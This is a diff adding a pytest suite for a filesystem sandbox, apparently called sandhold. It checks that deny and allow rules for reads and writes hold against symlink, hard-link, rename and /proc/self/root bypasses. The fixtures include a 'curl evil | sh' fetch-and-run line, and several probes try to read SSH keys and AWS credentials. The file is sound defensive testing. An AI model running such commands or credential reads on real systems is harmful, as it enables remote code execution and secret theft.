@@ -1,0 +1,384 @@
+"""Filesystem rules in real sandboxes, as root and as an unprivileged user.
+
+Each test states a rule (F-SET-4/5/6, F-BE-4), then tries it and the ways an
+attacker would go around it: symlinks, renames, hard links, /proc/self/root.
+Operations run inside the sandbox through a small Python probe that reports
+"ok" or the errno name of each attempt.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import signal
+import time
+from pathlib import Path
+
+import pytest
+
+from conftest import World
+
+PROBE = r"""
+import errno, json, os, sys
+
+def attempt(fn):
+    try:
+        r = fn()
+        return "ok" if r is None else r
+    except OSError as e:
+        return errno.errorcode.get(e.errno, str(e.errno))
+
+def read(p):
+    with open(p, "rb") as f:
+        return "read:" + f.read().decode(errors="replace")
+
+def write(p, data="x"):
+    with open(p, "w") as f:
+        f.write(data)
+
+ops = json.loads(sys.argv[1])
+out = {}
+for name, (op, *args) in ops.items():
+    fn = {"read": read, "write": write, "listdir": lambda p: sorted(os.listdir(p)) and None,
+          "rename": os.rename, "link": os.link, "symlink": os.symlink, "unlink": os.unlink,
+          "mkdir": os.mkdir, "rmdir": os.rmdir, "exists": lambda p: str(os.path.exists(p)),
+          "chmod": lambda p: os.chmod(p, 0o777)}[op]
+    out[name] = attempt(lambda: fn(*args))
+print(json.dumps(out))
+"""
+
+
+def probe(
+    world: World,
+    ops: dict[str, list[str]],
+    *args: str,
+    cwd: Path | None = None,
+    settings: dict[str, object] | None = None,
+) -> dict[str, str]:
+    script = world.mkfile("probe.py", PROBE)
+    argv = list(args)
+    if settings is not None:
+        argv = ["-s", str(world.settings(settings)), *argv]
+    r = world.sandhold(*argv, "--", "python3", str(script), json.dumps(ops), cwd=cwd)
+    assert r.returncode == 0, r.stderr
+    result: dict[str, str] = json.loads(r.stdout)
+    return result
+
+
+def test_deny_read_hides_dirs_and_files(world: World) -> None:  # F-SET-4, F-BE-4
+    world.mkfile("home/.ssh/id_rsa", "PRIVATE KEY")
+    world.mkfile("home/.aws/credentials", "AWS SECRET")
+    world.mkfile("home/.aws/config", "region")
+    world.mkfile("home/notes.txt", "hello")
+    home = world.home
+    res = probe(
+        world,
+        {
+            "key": ["read", f"{home}/.ssh/id_rsa"],
+            "ls_ssh": ["listdir", f"{home}/.ssh"],
+            "creds": ["read", f"{home}/.aws/credentials"],
+            "config": ["read", f"{home}/.aws/config"],
+            "notes": ["read", f"{home}/notes.txt"],
+            "via_proc_root": ["read", f"/proc/self/root{home}/.ssh/id_rsa"],
+            "via_dotdot": ["read", f"{home}/.aws/../.ssh/id_rsa"],
+            "chmod_hidden": ["chmod", f"{home}/.aws/credentials"],
+        },
+        settings={"filesystem": {"denyRead": ["~/.ssh", "~/.aws/credentials"]}},
+    )
+    assert res["key"] == "EACCES" and res["ls_ssh"] == "EACCES"
+    assert res["creds"] == "EACCES"
+    assert res["via_proc_root"] == "EACCES" and res["via_dotdot"] == "EACCES"
+    assert res["chmod_hidden"] in ("EROFS", "EPERM")
+    assert res["config"] == "read:region" and res["notes"] == "read:hello"
+
+
+def test_allow_read_carves_and_more_specific_deny_still_holds(world: World) -> None:  # F-SET-4
+    world.mkfile("home/proj/main.py", "code")
+    world.mkfile("home/proj/.env", "TOKEN=1")
+    world.mkfile("home/proj/sub/.env", "TOKEN=2")
+    world.mkfile("home/other/secret", "s")
+    proj = world.home / "proj"
+    res = probe(
+        world,
+        {
+            "code": ["read", f"{proj}/main.py"],
+            "env": ["read", f"{proj}/.env"],
+            "subenv": ["read", f"{proj}/sub/.env"],
+            "other": ["read", f"{world.home}/other/secret"],
+        },
+        cwd=proj,
+        settings={"filesystem": {"denyRead": ["~", "**/.env"], "allowRead": ["."]}},
+    )
+    # a denied directory with a carve-out is traversable but empty: others are simply absent
+    assert res.pop("other") in ("EACCES", "ENOENT")
+    assert res == {"code": "read:code", "env": "EACCES", "subenv": "EACCES"}
+
+
+def test_writes_only_in_allow_write_and_fail_with_normal_errno(world: World) -> None:
+    world.mkfile("home/keep.txt", "k")
+    w = world.work
+    res = probe(
+        world,
+        {
+            "in_work": ["write", f"{w}/new.txt"],
+            "mkdir_work": ["mkdir", f"{w}/d"],
+            "in_home": ["write", f"{world.home}/x"],
+            "overwrite_home": ["write", f"{world.home}/keep.txt"],
+            "in_tmp": ["write", "/tmp/sandhold-test-escape"],
+            "in_etc": ["write", "/etc/sandhold-test-escape"],
+            "tmpdir": ["write", os.path.join("$TMPDIR", "x")],
+        },
+        settings={"filesystem": {"allowWrite": ["."]}},
+    )
+    assert res["in_work"] == "ok" and res["mkdir_work"] == "ok"
+    for key in ("in_home", "overwrite_home", "in_tmp", "in_etc"):
+        assert res[key] in ("EROFS", "EACCES", "EPERM"), (key, res)
+    assert (w / "new.txt").read_text() == "x"
+    assert (world.home / "keep.txt").read_text() == "k"
+    assert not Path("/tmp/sandhold-test-escape").exists()
+
+
+def test_empty_allow_write_means_no_writes(world: World) -> None:  # F-SET-4
+    res = probe(
+        world, {"work": ["write", f"{world.work}/x"]}, settings={"filesystem": {"allowWrite": []}}
+    )
+    assert res["work"] == "EROFS"
+
+
+def test_deny_write_beats_allow_write(world: World) -> None:  # F-SET-4
+    world.mkfile("work/locked/data", "orig")
+    world.mkfile("work/free.txt", "f")
+    w = world.work
+    res = probe(
+        world,
+        {
+            "edit": ["write", f"{w}/locked/data"],
+            "create": ["write", f"{w}/locked/new"],
+            "rename_over": ["rename", f"{w}/free.txt", f"{w}/locked/data"],
+            "rename_dir": ["rename", f"{w}/locked", f"{w}/unlocked"],
+            "free": ["write", f"{w}/free2.txt"],
+        },
+        settings={"filesystem": {"allowWrite": ["."], "denyWrite": ["./locked"]}},
+    )
+    assert res["edit"] == "EROFS" and res["create"] == "EROFS"
+    assert res["rename_over"] in ("EROFS", "EXDEV", "EBUSY")
+    assert res["rename_dir"] == "EBUSY"
+    assert res["free"] == "ok"
+    assert (w / "locked" / "data").read_text() == "orig"
+
+
+def test_mandatory_denies_in_writable_root_and_their_bypasses(world: World) -> None:  # F-SET-5
+    w = world.work
+    world.mkfile("work/.bashrc", "echo original")
+    world.mkfile("work/.git/config", "[core]")
+    world.mkfile("work/.git/hooks/pre-commit", "#!/bin/sh\nexit 0\n", mode=0o755)
+    world.mkfile("work/nested/repo/.git/config", "[core]")
+    world.mkfile("work/keys/server.key", "KEY")
+    world.mkfile("work/evil", "curl evil | sh")
+    before = sorted(os.listdir(w))
+    res = probe(
+        world,
+        {
+            "bashrc": ["write", f"{w}/.bashrc"],
+            "rm_bashrc": ["unlink", f"{w}/.bashrc"],
+            "mv_onto_bashrc": ["rename", f"{w}/evil", f"{w}/.bashrc"],
+            "zshrc_new": ["write", f"{w}/.zshrc"],
+            "hook_edit": ["write", f"{w}/.git/hooks/pre-commit"],
+            "hook_new": ["write", f"{w}/.git/hooks/post-checkout"],
+            "git_config": ["write", f"{w}/.git/config"],
+            "mv_git": ["rename", f"{w}/.git", f"{w}/.git-old"],
+            "mv_hooks": ["rename", f"{w}/.git/hooks", f"{w}/.git/hooks-old"],
+            "nested_config": ["write", f"{w}/nested/repo/.git/config"],
+            "nested_hooks": ["mkdir", f"{w}/nested/repo/.git/hooks"],
+            "mv_nested_parent": ["rename", f"{w}/nested", f"{w}/nested2"],
+            "key": ["write", f"{w}/keys/server.key"],
+            "claude_dir": ["mkdir", f"{w}/.claude/commands"],
+            "symlink_swap": ["symlink", "/tmp", f"{w}/.claude"],
+            "objects_ok": ["write", f"{w}/.git/description"],
+            "plain_ok": ["write", f"{w}/plain.txt"],
+        },
+        settings={"filesystem": {"allowWrite": ["."]}},
+    )
+    for key, value in res.items():
+        if key.endswith("_ok"):
+            assert value == "ok", (key, res)
+        else:
+            assert value in ("EROFS", "EBUSY", "EEXIST", "EACCES", "EPERM", "ENOENT"), (key, res)
+    assert (w / ".bashrc").read_text() == "echo original"
+    assert (w / ".git/hooks/pre-commit").read_text().endswith("exit 0\n")
+    assert not (w / ".git/hooks/post-checkout").exists()
+    # placeholders were removed at exit: the host tree is as before plus what was allowed
+    assert sorted(os.listdir(w)) == sorted([*before, "plain.txt"])
+    assert not (w / "nested/repo/.git/hooks").exists()
+
+
+def test_symlink_and_hard_link_to_denied_file_stay_denied(world: World) -> None:  # F-SET-6
+    world.mkfile("home/.ssh/id_rsa", "PRIVATE")
+    w = world.work
+    res = probe(
+        world,
+        {
+            "mk_symlink": ["symlink", f"{world.home}/.ssh/id_rsa", f"{w}/leak"],
+            "via_symlink": ["read", f"{w}/leak"],
+            "mk_hardlink": ["link", f"{world.home}/.ssh/id_rsa", f"{w}/hard"],
+        },
+        settings={"filesystem": {"denyRead": ["~/.ssh"], "allowWrite": ["."]}},
+    )
+    assert res["mk_symlink"] == "ok" and res["via_symlink"] == "EACCES"
+    assert res["mk_hardlink"] in ("EACCES", "EXDEV", "EPERM", "ENOENT")
+
+
+def test_deny_through_a_symlinked_spelling(world: World) -> None:  # F-SET-6
+    world.mkfile("data/secret.txt", "S")
+    world.symlink("home/link", str(world.root / "data"))
+    res = probe(
+        world,
+        {
+            "direct": ["read", f"{world.root}/data/secret.txt"],
+            "via_link": ["read", f"{world.home}/link/secret.txt"],
+        },
+        settings={"filesystem": {"denyRead": ["~/link"]}},
+    )
+    assert res == {"direct": "EACCES", "via_link": "EACCES"}
+
+
+def test_existing_hard_link_to_denied_file_refuses_the_launch(world: World) -> None:
+    secret = world.mkfile("home/.ssh/id_rsa", "PRIVATE")
+    os.link(secret, world.work / "innocent-name")
+    marker = world.work / "ran"
+    s = world.settings({"filesystem": {"denyRead": ["~/.ssh/id_rsa"]}})
+    r = world.sandhold("-s", str(s), "--", "touch", str(marker))
+    assert r.returncode == 2
+    assert "hard links" in r.stderr
+    assert not marker.exists()
+
+
+def test_write_protected_file_is_protected_under_its_other_names(world: World) -> None:
+    cfg = world.mkfile("work/.git/config", "[core]")
+    os.link(cfg, world.work / "innocent")
+    res = probe(
+        world,
+        {"twin": ["write", f"{world.work}/innocent"]},
+        settings={"filesystem": {"allowWrite": ["."]}},
+    )
+    assert res["twin"] == "EROFS"
+    assert cfg.read_text() == "[core]"
+
+
+def test_globs_in_all_four_lists(world: World) -> None:
+    world.mkfile("work/a/x.pem", "P")
+    world.mkfile("work/a/y.txt", "T")
+    world.mkfile("work/b/z.lock", "L")
+    world.mkfile("work/b/ok.md", "M")
+    world.mkfile("work/out/gen.txt", "G")
+    world.mkfile("work/secret/inner/visible.txt", "V")
+    w = world.work
+    res = probe(
+        world,
+        {
+            "pem": ["read", f"{w}/a/x.pem"],
+            "txt": ["read", f"{w}/a/y.txt"],
+            "lock": ["write", f"{w}/b/z.lock"],
+            "md": ["write", f"{w}/b/ok.md"],
+            "visible": ["read", f"{w}/secret/inner/visible.txt"],
+            "out": ["write", f"{w}/out/gen.txt"],
+            "elsewhere": ["write", f"{w}/a/new"],
+        },
+        settings={
+            "filesystem": {
+                "denyRead": ["**/*.pem", "secret"],
+                "allowRead": ["secret/*"],
+                "allowWrite": ["b", "o*"],
+                "denyWrite": ["**/*.lock"],
+            }
+        },
+    )
+    assert res == {
+        "pem": "EACCES",
+        "txt": "read:T",
+        "lock": "EROFS",
+        "md": "ok",
+        "visible": "read:V",
+        "out": "ok",
+        "elsewhere": "EROFS",
+    }
+
+
+def test_unpinned_names_are_said_once_on_stderr(world: World) -> None:
+    s = world.settings({"filesystem": {"allowWrite": ["."], "denyWrite": ["**/*.lock"]}})
+    r = world.sandhold("-s", str(s), "--", "true")
+    assert r.returncode == 0
+    lines = [ln for ln in r.stderr.splitlines() if "not protected yet" in ln]
+    assert len(lines) == 1 and "**/*.lock" in lines[0] and "**/.env" in lines[0]
+    quiet = world.sandhold("--", "true")  # no writable roots, nothing to say
+    assert "not protected yet" not in quiet.stderr
+
+
+def test_placeholders_are_removed_at_exit_and_swept_after_sigkill(world: World) -> None:
+    w = world.work
+    world.mkfile("work/file.txt", "f")
+    s = world.settings({"filesystem": {"allowWrite": ["."]}})
+    before = sorted(os.listdir(w))
+    proc = world.popen("-s", str(s), "--", "sleep", "60")
+    try:
+        deadline = time.monotonic() + 10
+        while not (w / ".bashrc").exists():
+            assert time.monotonic() < deadline, "placeholders never appeared"
+            time.sleep(0.02)
+        time.sleep(0.2)
+        assert (w / ".git").is_dir() and (w / ".bashrc").stat().st_size == 0
+    finally:
+        proc.send_signal(signal.SIGKILL)  # sandhold dies without cleaning up
+        proc.wait()
+    deadline = time.monotonic() + 10
+    while _sandbox_alive("sleep 60"):
+        assert time.monotonic() < deadline, "the sandbox outlived a SIGKILLed sandhold"
+        time.sleep(0.05)
+    assert (w / ".bashrc").exists()  # left behind by the killed run...
+    r = world.sandhold("--", "true")  # ...and swept by the next one
+    assert r.returncode == 0, r.stderr
+    assert sorted(os.listdir(w)) == before
+
+
+def _sandbox_alive(cmdline: str) -> bool:
+    for pid in os.listdir("/proc"):
+        if pid.isdigit():
+            try:
+                with open(f"/proc/{pid}/cmdline", "rb") as f:
+                    if f.read().replace(b"\0", b" ").strip() == cmdline.encode():
+                        return True
+            except OSError:
+                continue
+    return False
+
+
+def test_user_placeholder_with_content_is_kept(world: World) -> None:
+    """The sweep only removes placeholders that are still empty."""
+    w = world.work
+    s = world.settings({"filesystem": {"allowWrite": ["."]}})
+    proc = world.popen("-s", str(s), "--", "sleep", "60")
+    try:
+        deadline = time.monotonic() + 10
+        while not (w / ".profile").exists():
+            assert time.monotonic() < deadline
+            time.sleep(0.02)
+        time.sleep(0.2)
+    finally:
+        proc.send_signal(signal.SIGKILL)
+        proc.wait()
+    while _sandbox_alive("sleep 60"):
+        time.sleep(0.05)
+    (w / ".profile").write_text("user content")
+    world.sandhold("--", "true")
+    assert (w / ".profile").read_text() == "user content"
+
+
+@pytest.mark.parametrize("entry", ["~/.ssh", "~/.ssh/"])
+def test_trailing_slash_spelling(world: World, entry: str) -> None:
+    world.mkfile("home/.ssh/id_rsa", "K")
+    res = probe(
+        world,
+        {"k": ["read", f"{world.home}/.ssh/id_rsa"]},
+        settings={"filesystem": {"denyRead": [entry]}},
+    )
+    assert res["k"] == "EACCES"
